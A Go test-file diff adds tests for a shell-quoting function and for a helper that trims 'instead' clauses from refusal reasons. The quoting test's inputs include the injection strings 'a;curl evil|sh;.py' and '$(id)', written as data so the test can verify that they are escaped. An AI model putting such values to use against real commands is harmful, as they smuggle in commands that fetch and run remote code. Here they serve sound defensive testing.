@@ -78,3 +78,29 @@ func TestRefusal(t *testing.T) {
 		t.Errorf("%v", err)
 	}
 }
+
+func TestShellQuote(t *testing.T) {
+	for want, words := range map[string][]string{
+		"a b/c.py --x=1":           {"a", "b/c.py", "--x=1"},
+		"'a;curl evil|sh;.py' ''":  {"a;curl evil|sh;.py", ""},
+		`'it'\''s' '$(id)' 'a\nb'`: {"it's", "$(id)", `a\nb`},
+	} {
+		if got := ShellQuote(words...); got != want {
+			t.Errorf("%q: %s instead of %s", words, got, want)
+		}
+	}
+}
+
+// A refusal has every part of a reason, except what is done instead.
+func TestWithoutInstead(t *testing.T) {
+	for reason, want := range map[string]string{
+		"runc is 1.0.3; 1.1 is needed":              "runc is 1.0.3; 1.1 is needed",
+		"no delegation; refused; polled instead":    "no delegation; refused",
+		"no controller; looked at every 5s instead": "no controller",
+		"one cause": "one cause",
+	} {
+		if got := withoutInstead(reason); got != want {
+			t.Errorf("%q: %q instead of %q", reason, got, want)
+		}
+	}
+}
